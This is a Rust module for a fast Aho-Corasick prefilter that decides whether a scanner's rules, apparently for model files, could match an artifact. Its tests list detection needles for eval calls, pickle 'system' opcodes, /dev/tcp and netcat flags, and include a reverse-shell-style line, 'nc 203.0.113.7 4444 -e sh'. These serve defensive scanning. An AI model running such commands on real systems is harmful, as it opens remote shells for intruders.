//! A look at bytes that says whether any built-in rule could match them at all.
//!
//! Loading the engine and its rules costs a hundred times what judging a small model costs, and nearly no honest artifact holds anything that a rule
//! looks for. So each rule is known by needles too, texts of which one stands in whatever the rule matches; where none stands, the engine is not asked.
//! The needles are derived from the rules by a test, never by hand: a rule that changes without them is not sieved. An adversary who writes needles
//! into a file gets the rules applied to it.

use crate::needles::Pair;
use aho_corasick::{AhoCorasick, AhoCorasickKind, BuildError, MatchKind};
use std::sync::OnceLock;
use std::sync::atomic::{AtomicUsize, Ordering};

/// Bytes after which the faster search pays: it takes 18 million instructions more to make, and saves 25 to 30 of 45 a byte.
const FASTER_AFTER: usize = 512 << 10;

/// What a region must hold for a rule to match.
#[derive(Debug)]
pub(crate) struct Sieve {
    lists: Lists,
    /// Every needle in any case, and of each pair the first list: where none of these stands, nothing does, in one pass.
    rough: AhoCorasick,
    /// The same search, twice as fast a byte; made once enough was looked at.
    faster: OnceLock<Option<AhoCorasick>>,
    looked_at: AtomicUsize,
    fine: OnceLock<Option<Fine>>,
}

#[derive(Clone, Copy, Debug)]
struct Lists {
    exact: &'static [&'static [u8]],
    any_case: &'static [&'static [u8]],
    pairs: &'static [Pair],
}

impl Sieve {
    /// Of needles of which one must be there, as it is or, where it stands in lower case in `any_case`, in any; and of pairs of lists, of which one each
    /// must, in any case. Nothing where they cannot be looked for.
    pub(crate) fn new(exact: &'static [&'static [u8]], any_case: &'static [&'static [u8]], pairs: &'static [Pair]) -> Option<Self> {
        if exact.is_empty() && any_case.is_empty() {
            return None;
        }
        let lists = Lists { exact, any_case, pairs };
        let rough = search(lists.rough(), true, None).ok()?;
        Some(Self { lists, rough, faster: OnceLock::new(), looked_at: AtomicUsize::new(0), fine: OnceLock::new() })
    }

    /// True where `bytes` holds what a rule needs.
    pub(crate) fn holds(&self, bytes: &[u8]) -> bool {
        self.rough(bytes.len()).is_match(bytes) && self.fine.get_or_init(|| Fine::new(self.lists).ok()).as_ref().is_none_or(|fine| fine.holds(bytes))
    }

    /// What to look through so many bytes with.
    fn rough(&self, bytes: usize) -> &AhoCorasick {
        if self.looked_at.fetch_add(bytes, Ordering::Relaxed) + bytes < FASTER_AFTER {
            return &self.rough;
        }
        self.faster.get_or_init(|| search(self.lists.rough(), true, Some(AhoCorasickKind::DFA)).ok()).as_ref().unwrap_or(&self.rough)
    }
}

impl Lists {
    fn rough(self) -> impl Iterator<Item = &'static &'static [u8]> {
        self.exact.iter().chain(self.any_case).chain(self.pairs.iter().flat_map(|(one, _)| one.iter()))
    }
}

/// The same with the case that counts and both lists of a pair.
#[derive(Debug)]
struct Fine {
    exact: AhoCorasick,
    any_case: AhoCorasick,
    pairs: Vec<(AhoCorasick, AhoCorasick)>,
}

impl Fine {
    fn new(Lists { exact, any_case, pairs }: Lists) -> Result<Self, BuildError> {
        let pairs = pairs.iter().map(|(one, other)| Ok((search(one.iter(), true, None)?, search(other.iter(), true, None)?))).collect::<Result<_, _>>()?;
        Ok(Self { exact: search(exact.iter(), false, None)?, any_case: search(any_case.iter(), true, None)?, pairs })
    }

    fn holds(&self, bytes: &[u8]) -> bool {
        self.exact.is_match(bytes) || self.any_case.is_match(bytes) || self.pairs.iter().any(|(one, other)| one.is_match(bytes) && other.is_match(bytes))
    }
}

fn search<'n>(needles: impl Iterator<Item = &'n &'static [u8]>, any_case: bool, kind: Option<AhoCorasickKind>) -> Result<AhoCorasick, BuildError> {
    AhoCorasick::builder().match_kind(MatchKind::Standard).ascii_case_insensitive(any_case).kind(kind).build(needles)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    const EXACT: &[&[u8]] = &[b"eVal(", b"\x8c\x06system", b"val(B64"];
    const ANY_CASE: &[&[u8]] = &[b"/dev/tcp", b"636f"];

    /// One that has looked at little, and one that has looked at much.
    fn new_and_used() -> [Sieve; 2] {
        let [new, used] = [0, 1].map(|_| Sieve::new(EXACT, ANY_CASE, &[]).unwrap());
        assert!(!used.holds(&vec![b'-'; FASTER_AFTER]) && used.faster.get().is_some() && new.faster.get().is_none());
        [new, used]
    }

    #[test]
    fn needles_are_found_wherever_they_stand() {
        for sieve in new_and_used() {
            found_wherever_they_stand(&sieve);
        }
    }

    fn found_wherever_they_stand(sieve: &Sieve) {
        for needle in EXACT.iter().map(|needle| needle.to_vec()).chain(ANY_CASE.iter().map(|needle| needle.to_ascii_uppercase())) {
            for before in 0..20 {
                let text = [&vec![b'e'; before][..], &needle, b"x"].concat();
                assert!(sieve.holds(&text), "{text:?}");
                let cut = &text[..before + needle.len() - 1];
                assert!(!sieve.holds(cut), "{cut:?}");
            }
        }
        assert!(!sieve.holds(b"") && !sieve.holds(b"eV") && !sieve.holds(b"EVAL( VAL(b64"));
    }

    #[test]
    fn without_needles_there_is_no_sieve() {
        assert!(Sieve::new(&[], &[], &[(&[b"-e "], &[b"nc "])]).is_none());
    }

    #[test]
    fn of_a_pair_both_must_be_there() {
        let sieve = Sieve::new(&[b"stratum"], &[], &[(&[b"-e ", b"-c "], &[b"nc ", b"ncat"])]).unwrap();
        assert!(sieve.holds(b"x nc 203.0.113.7 4444 -e sh") && sieve.holds(b"-c , Ncat") && sieve.holds(b"stratum"));
        assert!(!sieve.holds(b"a func of some kind") && !sieve.holds(b"perl -e print") && !sieve.holds(b""));
    }

    proptest! {
        /// The same answer as looking at every place for every needle; the letters are those of the needles, so that there is much to stumble over.
        #[test]
        fn it_answers_as_the_plain_search_does(letters in proptest::collection::vec(0_usize..25, 0..200)) {
            let alphabet = b"evalEVAL(/dtcpD\x8c\x06systemB";
            let text: Vec<u8> = letters.iter().filter_map(|at| alphabet.get(*at).copied()).collect();
            let lower = text.to_ascii_lowercase();
            let there = |text: &[u8], needles: &[&[u8]]| needles.iter().any(|needle| text.windows(needle.len()).any(|window| window == *needle));
            for sieve in new_and_used() {
                prop_assert_eq!(sieve.holds(&text), there(&text, EXACT) || there(&lower, ANY_CASE));
            }
        }
    }
}
